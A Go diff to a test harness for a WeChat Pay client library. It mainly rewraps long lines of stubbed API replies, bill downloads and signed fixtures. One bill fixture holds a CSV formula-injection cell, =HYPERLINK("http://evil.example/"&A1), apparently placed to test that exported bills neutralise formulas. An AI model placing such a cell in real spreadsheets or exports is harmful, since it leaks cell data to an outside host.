@@ -25,13 +25,18 @@ import (
 	"github.com/youmark/pkcs8"
 
 	"github.com/wechatpay-chain/wxpay/auth"
+	"github.com/wechatpay-chain/wxpay/internal/cli/output"
 	"github.com/wechatpay-chain/wxpay/wxpaytest"
 )
 
 const (
 	scriptSerial = "5157F09EFDC096DE15EBE81A47057A7232F1B8E1"
 	scriptKeyID  = "PUB_KEY_ID_0119000000012025010100000000000001"
-	scriptBill   = "\ufeff交易时间,商户订单号,订单金额,商品名称\r\n`2025-01-31 08:00:00,`T1,`1.00,`a \"quoted\", name\r\n`2025-01-31 09:00:00,`T2,`2.50,`<茶> & 水\r\n总交易单数,订单总金额\r\n`2,`3.50\r\n"
+	scriptBill   = "\ufeff交易时间,商户订单号,订单金额,商品名称\r\n" +
+		"`2025-01-31 08:00:00,`T1,`1.00,`a \"quoted\", name\r\n" +
+		"`2025-01-31 09:00:00,`T2,`2.50,`<茶> & 水\r\n" +
+		"总交易单数,订单总金额\r\n" +
+		"`2,`3.50\r\n"
 )
 
 // scriptKeys are the keys of a run: making them takes most of its time.
@@ -117,7 +122,8 @@ func (g *scriptGateways) count(ts *testscript.TestScript, pattern string) (n int
 func (k *scriptKeys) setup(env *testscript.Env) (*scriptGateways, error) {
 	tb := env.T().(testing.TB) // TestScripts has looked
 	common := []wxpaytest.Option{
-		wxpaytest.Plain(), wxpaytest.MerchantKey(scriptSerial, k.merchant), wxpaytest.APIv3Key(auth.Secret(k.apiv3)), wxpaytest.APIv2Key(auth.Secret(k.apiv2)),
+		wxpaytest.Plain(), wxpaytest.MerchantKey(scriptSerial, k.merchant), wxpaytest.APIv3Key(auth.Secret(k.apiv3)),
+		wxpaytest.APIv2Key(auth.Secret(k.apiv2)),
 	}
 	shop, err := wxpaytest.Start(append(common, wxpaytest.PlatformKey(scriptKeyID, k.platform))...)
 	if err != nil {
@@ -181,12 +187,15 @@ func scriptHandlers(s *wxpaytest.Server) {
 		s.Handle(pattern, func(*wxpaytest.Request) wxpaytest.Reply { return r })
 	}
 	reply("POST /v3/pay/transactions/native", wxpaytest.Reply{Body: `{"code_url":"weixin://wxpay/bizpayurl?pr=JyC91EIz1"}`})
-	reply("GET /v3/pay/transactions/id/{transaction_id}", wxpaytest.Reply{Body: `{"transaction_id":"4200000000000000000001","trade_state":"SUCCESS","amount":{"total":100}}`})
+	reply("GET /v3/pay/transactions/id/{transaction_id}",
+		wxpaytest.Reply{Body: `{"transaction_id":"4200000000000000000001","trade_state":"SUCCESS","amount":{"total":100}}`})
 	reply("GET /v3/pay/transactions/out-trade-no/{out_trade_no}", wxpaytest.ErrorReply(http.StatusNotFound, "ORDER_NOT_EXIST", "订单不存在"))
 	reply("POST /v3/pay/transactions/out-trade-no/{out_trade_no}/close", wxpaytest.Reply{})
 	reply("POST /v3/refund/domestic/refunds", wxpaytest.Reply{Body: `{"refund_id":"50000000382019052709732678859","status":"PROCESSING"}`})
 	reply("POST /v3/merchant/media/upload", wxpaytest.Reply{Body: `{"media_id":"H1ihR9JUtVj-J7CJqBUY5ZOrG_Je75H"}`})
-	reply("POST /v2/pay/unifiedorder", wxpaytest.Reply{Body: map[string]string{"return_code": "SUCCESS", "result_code": "SUCCESS", "code_url": "weixin://wxpay/s/An4baqw"}})
+	reply("POST /v2/pay/unifiedorder", wxpaytest.Reply{Body: map[string]string{
+		"return_code": "SUCCESS", "result_code": "SUCCESS", "code_url": "weixin://wxpay/s/An4baqw",
+	}})
 	reply("/v3/test/server-error", wxpaytest.ErrorReply(http.StatusInternalServerError, "SYSTEM_ERROR", "系统繁忙"))
 	reply("POST /v3/pay/transactions/codepay", wxpaytest.ErrorReply(http.StatusAccepted, "USERPAYING", "需要用户输入支付密码"))
 	reply("POST /v3/new-tax-control-fapiao/fapiao-applications", wxpaytest.Reply{Status: http.StatusAccepted})
@@ -201,13 +210,16 @@ func scriptHandlers(s *wxpaytest.Server) {
 	const content = scriptBill
 	s.HandleDownload("GET /v3/bill/tradebill", wxpaytest.Download{Content: []byte(content)})
 	s.HandleDownload("GET /v3/bill/fundflowbill", wxpaytest.Download{Content: []byte(content), HashType: "SHA256"})
-	s.HandleDownload("GET /v3/bill/sub-merchant-fundflowbill", wxpaytest.Download{Content: []byte(content), Algorithm: "AEAD_AES_256_GCM", Parts: 2})
+	s.HandleDownload("GET /v3/bill/sub-merchant-fundflowbill",
+		wxpaytest.Download{Content: []byte(content), Algorithm: "AEAD_AES_256_GCM", Parts: 2})
 	s.HandleDownload("GET /v3/ecommerce/bill/fundflowbill", wxpaytest.Download{Content: []byte(content), Algorithm: "AEAD_AES_256_GCM"})
 	s.HandleDownload("GET /v3/profitsharing/bills", wxpaytest.Download{Content: []byte(content)})
 	s.HandleDownload("GET /v3/test/bill/wrong-hash", wxpaytest.Download{Content: []byte(content), WrongHash: true})
-	s.HandleDownload("GET /v3/test/bill/irregular", wxpaytest.Download{Content: []byte("a,b,a\r\n`1,`2,`3\r\n`4,`5,`6,`7\r\n`8,`9,`10\r\n")})
+	s.HandleDownload("GET /v3/test/bill/irregular",
+		wxpaytest.Download{Content: []byte("a,b,a\r\n`1,`2,`3\r\n`4,`5,`6,`7\r\n`8,`9,`10\r\n")})
 	s.HandleDownload("GET /v3/test/bill/formulas", wxpaytest.Download{Content: []byte("\ufeff微信订单号,商户订单号,退款金额,商品名称\r\n" +
-		"`4200000000000000000000000001,`000123,`-0.02000,`=HYPERLINK(\"http://evil.example/\"&A1)\r\n`4200000000000000000000000002,`12E10,`1.00,`＠SUM(1)\r\n")})
+		"`4200000000000000000000000001,`000123,`-0.02000,`=HYPERLINK(\"http://evil.example/\"&A1)\r\n" +
+		"`4200000000000000000000000002,`12E10,`1.00,`＠SUM(1)\r\n")})
 	reply("GET /v3/test/bill/none", wxpaytest.ErrorReply(http.StatusBadRequest, "NO_STATEMENT_EXIST", "账单文件不存在"))
 	reply("GET /v3/test/bill/unhashed", wxpaytest.Reply{Body: `{"download_url":"` + s.URL() + `v3/test/bill/file"}`})
 	reply("GET /v3/test/bill/file", wxpaytest.FileReply("text/csv", []byte(content)))
@@ -224,7 +236,7 @@ func (k *scriptKeys) fixtures(tb testing.TB, s *wxpaytest.Server, write func(str
 	write("fix/notification.json", body)
 	resource := auth.Resource{Algorithm: auth.AEADAES256GCM, Nonce: "0123456789ab", AssociatedData: "certificate"}
 	require.NoError(tb, resource.Seal(auth.Secret(k.apiv3), []byte("plain resource")))
-	write("fix/resource.json", jsonText(resource))
+	write("fix/resource.json", output.JSONText(resource))
 	write("fix/sealed.txt", []byte(s.Encrypt("张三")+"\n"))
 	reqInfo, err := auth.SealReqInfo(auth.Secret(k.apiv2), []byte("<root><refund_id>R1</refund_id></root>"))
 	require.NoError(tb, err)
@@ -235,7 +247,8 @@ func (k *scriptKeys) fixtures(tb testing.TB, s *wxpaytest.Server, write func(str
 	signature, err := auth.Sign(k.platform, auth.AnswerMessage(stamp, "nonce1", old))
 	require.NoError(tb, err)
 	write("fix/old.http", dumpOf("HTTP/2 200", http.Header{
-		"Wechatpay-Timestamp": {stamp}, "Wechatpay-Nonce": {"nonce1"}, "Wechatpay-Serial": {scriptKeyID}, "Wechatpay-Signature": {base64.StdEncoding.EncodeToString(signature)},
+		"Wechatpay-Timestamp": {stamp}, "Wechatpay-Nonce": {"nonce1"}, "Wechatpay-Serial": {scriptKeyID},
+		"Wechatpay-Signature": {base64.StdEncoding.EncodeToString(signature)},
 	}, old))
 	write("fix/old.body", old)
 	write("fix/old.signature", []byte(base64.StdEncoding.EncodeToString(signature)))
